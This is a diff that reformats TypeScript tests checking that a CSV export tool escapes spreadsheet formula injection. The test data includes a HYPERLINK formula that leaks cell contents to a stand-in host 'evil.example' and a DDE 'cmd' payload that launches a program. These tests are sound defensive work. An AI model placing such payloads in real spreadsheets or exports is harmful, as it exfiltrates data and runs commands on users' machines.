@@ -11,7 +11,15 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createSandbox, type Sandbox } from '../../src/index.js';
 import { cli } from '../e2e/helpers/cli.js';
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", '+SUM(A1:A9)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "=cmd|' /C calc'!A0",
+  '+SUM(A1:A9)',
+  '-2+3',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+];
 const NUMBERS_AS_TEXT = ['-5', '+1.5e3', '-0.25', '42'];
 const dir = mkdtempSync(join(tmpdir(), 'sbirtools-csv-formula-'));
 
@@ -24,12 +32,12 @@ function parseCsv(text: string): string[][] {
   for (let i = 0; i < text.length; i++) {
     const c = text[i]!;
     if (quoted) {
-      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
       else if (c === '"') quoted = false;
       else field += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',') row.push(field), (field = '');
-    else if (c === '\n') row.push(field), rows.push(row), (row = []), (field = '');
+    else if (c === ',') (row.push(field), (field = ''));
+    else if (c === '\n') (row.push(field), rows.push(row), (row = []), (field = ''));
     else field += c;
   }
   return rows;
@@ -43,7 +51,9 @@ afterAll(async () => {
   await box.close();
 });
 
-const tableCode = (opts: string) => `const t = aq.table({ note: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT])}, amount: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT].map((_, i) => -5 - i))}, ['=head()']: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT].map(() => 'x'))} });
+const tableCode = (
+  opts: string,
+) => `const t = aq.table({ note: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT])}, amount: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT].map((_, i) => -5 - i))}, ['=head()']: ${JSON.stringify([...FORMULAS, ...NUMBERS_AS_TEXT].map(() => 'x'))} });
 to_csv(t, 'out.csv'${opts}); to_csv(t.derive({ note: (d) => op.lower(d.note) }), 'dict.csv'${opts})`;
 
 describe('to_csv', () => {
@@ -82,7 +92,9 @@ describe('to_csv of a host table (dictionary-coded text)', () => {
     try {
       const r = await hostile.run("to_csv(hostile, 'h.csv')");
       expect(r.ok).toBe(true);
-      const companies = parseCsv(new TextDecoder().decode(r.files![0]!.bytes)).slice(1).map((row) => row[0]!);
+      const companies = parseCsv(new TextDecoder().decode(r.files![0]!.bytes))
+        .slice(1)
+        .map((row) => row[0]!);
       for (const cell of companies.slice(0, FORMULAS.length)) expect(cell).toMatch(/^'[=+\-@\t\r]/);
     } finally {
       await hostile.close();
@@ -91,7 +103,10 @@ describe('to_csv of a host table (dictionary-coded text)', () => {
 });
 
 describe('sbirtools export --format csv', () => {
-  writeFileSync(csv, `Company,Agency,Award Year,Award Amount\n${FORMULAS.map((f, i) => `${quote(f)},DOD,2020,${-5 - i}`).join('\n')}\n${NUMBERS_AS_TEXT.map((n) => `${quote(n)},NASA,2021,1`).join('\n')}\n`);
+  writeFileSync(
+    csv,
+    `Company,Agency,Award Year,Award Amount\n${FORMULAS.map((f, i) => `${quote(f)},DOD,2020,${-5 - i}`).join('\n')}\n${NUMBERS_AS_TEXT.map((n) => `${quote(n)},NASA,2021,1`).join('\n')}\n`,
+  );
 
   it('escapes formula text by default and keeps numbers', async () => {
     const out = join(dir, 'escaped.csv');
@@ -107,9 +122,22 @@ describe('sbirtools export --format csv', () => {
 
   it('--no-escape-formulas writes them as they are', async () => {
     const out = join(dir, 'raw.csv');
-    const r = await cli(['export', '--format', 'csv', '--no-escape-formulas', '--data', csv, '--columns', 'Company', '-o', out]);
+    const r = await cli([
+      'export',
+      '--format',
+      'csv',
+      '--no-escape-formulas',
+      '--data',
+      csv,
+      '--columns',
+      'Company',
+      '-o',
+      out,
+    ]);
     expect(r.code).toBe(0);
-    const companies = parseCsv(readFileSync(out, 'utf8')).slice(1).map((row) => row[0]!);
+    const companies = parseCsv(readFileSync(out, 'utf8'))
+      .slice(1)
+      .map((row) => row[0]!);
     expect(companies.filter((c) => c.startsWith("'"))).toEqual([]);
     expect(companies.some((c) => c.startsWith('=HYPERLINK'))).toBe(true);
   });
